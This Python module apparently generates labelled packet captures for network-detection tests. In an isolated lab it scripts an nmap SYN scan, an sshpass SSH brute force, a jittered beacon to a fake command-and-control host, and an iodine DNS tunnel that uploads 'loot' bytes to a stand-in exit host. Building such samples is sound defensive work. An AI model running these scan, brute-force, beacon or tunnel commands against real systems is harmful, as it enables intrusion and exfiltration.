"""The scenes with something to find: a scan, a brute force, a beacon, a tunnel, and a day with all of them."""

from __future__ import annotations

import random
import secrets
import time
from functools import partial
from typing import TYPE_CHECKING, Any

from samples.record import servers
from samples.record.case import Case
from samples.record.lab import Tap, together, wait_for

if TYPE_CHECKING:
    from pathlib import Path

    from samples.record.lab import Host, Lab

CLIENT, SSH, WEB, DNS = "192.0.2.103", "192.0.2.22", "192.0.2.80", "192.0.2.53"
BEACON_HOST, BEACON_AGENT = "cdn-updates.example.net", "WinUpdate/1.7 (compatible)"
TUNNEL_END = "10.53.0.1"


def scan(client: Host, target: str, ports: str) -> None:
    """A SYN scan of a host that is known to be up."""
    client.run("nmap", "-sS", "-Pn", "-n", "--max-retries", "1", "-p", ports, target, seconds=120)


def brute_force(client: Host, login: servers.Login, target: str, wrong: int) -> None:
    """Try `wrong` passwords, each in a connection of its own, four at a time, and then the right one."""
    options = (
        "-F",
        "/dev/null",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "NumberOfPasswordPrompts=1",
        "-o",
        "PreferredAuthentications=password",
    )

    def guess(user: str, password: str, *expected: int) -> None:
        target_login = f"{user}@{target}"
        client.run("sshpass", "-p", password, "ssh", *options, target_login, "true", ok=expected)

    users = ("root", "admin", "test", login.user)
    guesses = [partial(guess, users[n % 4], secrets.token_urlsafe(6), 5, 255) for n in range(wrong)]
    together(guesses, at_once=4)
    guess(login.user, login.password, 0)


def call_home(client: Host, times: int, period: float, jitter: float) -> None:
    """Fetch the same small URL `times` times, every `period` seconds give or take `jitter` seconds."""
    when = random.Random(7)  # noqa: S311 chooses moments, not secrets
    start = time.monotonic()
    for beat in range(times):
        due = start + beat * period + when.uniform(-jitter, jitter)
        time.sleep(max(0.0, due - time.monotonic()))
        url = f"http://{BEACON_HOST}/updates/check?id=7f3a9c"
        client.run("curl", "-sS", "-A", BEACON_AGENT, "-o", "/dev/null", url)


def tunnel(client: Host, server: str, password: str, path: str, upload: int) -> None:
    """Open an IP-over-DNS tunnel with iodine; ping, fetch a file and send `upload` bytes through it."""
    argv = ("-f", "-r", "-T", "TXT", "-I", "2", "-P", password, server, "t.example.net")
    iodine = client.start("iodine", *argv)
    log = client.folder / "iodine.log"
    wait_for(lambda: "Connection setup complete" in log.read_text(errors="replace"), "iodine", 60)
    client.run("ping", "-c", "3", TUNNEL_END)
    fetch = ("curl", "-sS", "-o", "/dev/null")
    client.run(*fetch, f"http://{TUNNEL_END}/{path}", seconds=120)
    loot = client.write("loot.bin", random.Random(11).randbytes(upload))  # noqa: S311 compression must not help
    client.run(*fetch, "--data-binary", f"@{loot}", f"http://{TUNNEL_END}/form", seconds=120)
    client.lab.stop(iodine)


def port_scan(lab: Lab, out: Path) -> Case:
    """202 ports, four of them open."""
    target, client = lab.host("server1", "192.0.2.22/24"), lab.host("client1", f"{CLIENT}/24")
    servers.ssh(target, client)
    servers.web(target, servers.certificates(target.folder, "www.example.com"))
    servers.dns(target)
    with Tap(lab, out):
        scan(client, SSH, "1-200,443,8080")
    probe = {"event.dataset": "network_traffic.flow", "source.ip": CLIENT, "destination.ip": SSH}
    return Case(
        title="A port scan: SYN to 202 ports, four are open",
        recorded="nmap -sS against a host with sshd (22), BIND (53) and nginx (80, 443); closed ports answer with RST.",
        packages=("nmap", "openssh-server", "bind9", "nginx"),
        counted=("flow", "arp"),
        sent={"flow": 202},
        alerts=("Connection to an administration port refused or unanswered",),
        contains=[
            {**probe, "network.transport": "tcp", "destination.port": port}
            for port in (22, 53, 80, 443, 1, 200, 8080)
        ],
    )


def ssh_bruteforce(lab: Lab, out: Path) -> Case:
    """Forty wrong passwords and the right one."""
    server, client = lab.host("files", f"{SSH}/24"), lab.host("client1", f"{CLIENT}/24")
    login = servers.ssh(server, client)
    with Tap(lab, out):
        brute_force(client, login, SSH, wrong=40)
    said = [log.read_text(errors="replace") for log in server.folder.glob("*.log")]
    failed = sum(text.count("Failed password") for text in said)
    accepted = sum(text.count("Accepted password") for text in said)
    event = {"source.ip": CLIENT, "destination.ip": SSH, "destination.port": 22}
    return Case(
        title="An SSH brute force that succeeds in the end",
        recorded=f"ssh driven by sshpass against OpenSSH's sshd, four users, one password a connection. By sshd's own "
        f"log {failed} passwords failed and {accepted} was accepted.",
        packages=("openssh-server", "openssh-client", "sshpass"),
        counted=("ssh", "flow", "arp"),
        sent={"ssh": 41, "flow": 41},
        contains=[
            {"event.dataset": "network_traffic.ssh", **event},
            {"event.dataset": "network_traffic.flow", "network.transport": "tcp", **event},
        ],
    )


def beacon(lab: Lab, out: Path) -> Case:
    """Forty small requests, one a second."""
    server, client = lab.host("c2", "198.51.100.66/24"), lab.host("client1", "198.51.100.103/24")
    servers.web(server)
    client.etc("hosts", f"198.51.100.66 {BEACON_HOST}\n")
    with Tap(lab, out):
        call_home(client, times=40, period=1.0, jitter=0.15)
    return Case(
        title="A beacon: the same small request again and again",
        recorded="curl asked nginx for one small URL 40 times, each in its own connection, every second give or take "
        "0.15 s: a short period, so that the recording is short.",
        packages=("nginx", "curl"),
        counted=("http", "flow", "arp"),
        sent={"http": 40, "flow": 40},
        contains=[_call(source="198.51.100.103")],
    )


def _call(source: str) -> dict[str, Any]:
    return {
        "event.dataset": "network_traffic.http",
        "source.ip": source,
        "destination.ip": "198.51.100.66",
        "url.domain": BEACON_HOST,
        "url.path": "/updates/check",
        "url.query": "id=7f3a9c",
        "user_agent.original": BEACON_AGENT,
        "http.request.method": "GET",
        "http.response.status_code": 200,
    }


def dns_tunnel(lab: Lab, out: Path) -> Case:
    """IP over DNS."""
    server, client = lab.host("exit1", "198.51.100.53/24"), lab.host("client1", "198.51.100.103/24")
    password = servers.tunnel(server)
    servers.web(server)
    with Tap(lab, out):
        tunnel(client, "198.51.100.53", password, "files/photo.bin", 30_000)
    return Case(
        title="A DNS tunnel: IP in TXT queries below one domain",
        recorded="iodine against iodined with TXT records; through the tunnel three pings, a download of 60 KB "
        "and an upload of 30 KB over HTTP. Names hold bytes above 127 (iodine's Base128). A last answer may find the "
        "client gone: an ICMP error.",
        packages=("iodine", "nginx", "curl"),
        counted=("dns", "icmp", "flow", "arp"),
        alerts=("DNS TXT query with an encoded label", "DNS query for a very long name"),
        contains=[
            {
                "event.dataset": "network_traffic.dns",
                "dns.question.type": "TXT",
                "dns.response_code": "NOERROR",
                "source.ip": "198.51.100.103",
                "destination.ip": "198.51.100.53",
            },
        ],
    )


def office_day(lab: Lab, out: Path) -> Case:
    """Three clients at work; the third one then scans, guesses passwords, calls home and tunnels."""
    dns1, web1, files = (
        lab.host("ns1", f"{DNS}/24"),
        lab.host("web1", f"{WEB}/24"),
        lab.host("files", f"{SSH}/24"),
    )
    router = lab.host("router", "192.0.2.1/24")
    lab.plug(router, "eth1", "outside", "198.51.100.1/24")
    router.run("sysctl", "-qw", "net.ipv4.ip_forward=1")
    c2 = lab.host("c2", "198.51.100.66/24", segment="outside")
    exit1 = lab.host("exit1", "198.51.100.53/24", segment="outside")
    clients = [lab.host(f"client{n}", f"192.0.2.10{n}/24") for n in (1, 2, 3)]
    for host in (c2, exit1):
        host.run("ip", "route", "add", "default", "via", "198.51.100.1")
    for client in clients:
        client.run("ip", "route", "add", "default", "via", "192.0.2.1")
        client.etc("resolv.conf", f"search example.com\nnameserver {DNS}\n")
    certs = servers.certificates(web1.folder, "intranet.example.com")
    servers.dns(dns1)
    servers.web(web1, certs)
    servers.web(c2)
    login = servers.ssh(files, clients[1])
    password = servers.tunnel(exit1)
    servers.web(exit1)
    infected = clients[2]
    calm = [partial(_work, client, certs, login if client is clients[1] else None) for client in clients]
    ping = ("ping", "-c", "5", "-i", "0.5", "192.0.2.1")
    busy = [
        partial(call_home, infected, 30, 1.0, 0.15),
        partial(tunnel, infected, "198.51.100.53", password, "style.css", 12_000),
        partial(scan, infected, WEB, "1-400,443,8080"),
        partial(brute_force, infected, login, SSH, 30),
        partial(_work, clients[0], certs, None),
    ]
    with Tap(lab, out):
        together([*calm, partial(clients[0].run, *ping)], at_once=4)
        together(busy, at_once=5)
    http = {
        "event.dataset": "network_traffic.http",
        "destination.ip": WEB,
        "url.domain": "intranet.example.com",
    }
    return Case(
        title="A day at the office, in a minute: three clients at work, one of them taken over",
        recorded="curl, dig, ssh, scp and ping of three clients against BIND, nginx and OpenSSH; then client 3 "
        "(192.0.2.103) scans the web server (nmap), guesses SSH passwords, calls home every second (curl) and "
        "opens a DNS tunnel (iodine). Captured on the clients' segment.",
        packages=("bind9", "nginx", "openssh-server", "curl", "nmap", "iodine"),
        counted=("flow", "dns", "http", "tls", "ssh", "icmp", "arp"),
        alerts=(
            "Connection to an administration port refused or unanswered",
            "DNS TXT query with an encoded label",
            "DNS query for a very long name",
        ),
        contains=[
            {**http, "http.request.method": "GET", "url.path": "/", "http.response.status_code": 200},
            {
                "event.dataset": "network_traffic.dns",
                "dns.question.name": "intranet.example.com",
                "dns.question.type": "A",
                "dns.resolved_ip": [WEB],
            },
            {
                "event.dataset": "network_traffic.dns",
                "dns.question.name": BEACON_HOST,
                "dns.resolved_ip": ["198.51.100.66"],
            },
            {"event.dataset": "network_traffic.tls", "tls.client.server_name": "intranet.example.com"},
            {"event.dataset": "network_traffic.ssh", "source.ip": "192.0.2.102", "destination.ip": SSH},
            {"event.dataset": "network_traffic.ssh", "source.ip": CLIENT, "destination.ip": SSH},
            {
                "event.dataset": "network_traffic.icmp",
                "source.ip": "192.0.2.101",
                "destination.ip": "192.0.2.1",
            },
            {
                "event.dataset": "network_traffic.dns",
                "dns.question.type": "TXT",
                "source.ip": CLIENT,
                "destination.ip": "198.51.100.53",
            },
            _call(source=CLIENT),
        ],
    )


def _work(client: Host, certs: servers.Certificates, login: servers.Login | None) -> None:
    """What an employee's computer does: names, pages, mail look-ups, with a login also files."""
    agent = ("-A", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    quiet = ("curl", "-sS", "-o", "/dev/null", *agent)
    pages = [f"http://intranet.example.com/{page}" for page in ("", "style.css", "about.html", "missing")]
    client.run(*quiet, pages[0], *(word for page in pages[1:] for word in ("-o", "/dev/null", page)))
    for _ in range(6):
        client.run(*quiet, "--cacert", str(certs.authority), "https://intranet.example.com/about.html")
        client.run("dig", f"@{DNS}", "example.com", "MX", "+tries=1")
        time.sleep(0.5)
    client.run("dig", f"@{DNS}", "printer.example.com", "A", "+tries=1")
    client.run(*quiet, "http://intranet.example.com/search?q=holiday")
    if login:
        client.run(*quiet, "http://intranet.example.com/files/photo.bin")
        options = (
            "-F",
            "/dev/null",
            "-i",
            str(login.key),
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "LogLevel=ERROR",
        )
        known = ("-o", f"UserKnownHostsFile={client.folder}/known_hosts")
        report = client.write("report.txt", "all quiet\n" * 1000)
        client.run("ssh", *options, *known, f"{login.user}@files.example.com", "cat notes.txt")
        client.run("scp", *options, *known, str(report), f"{login.user}@files.example.com:report.txt")
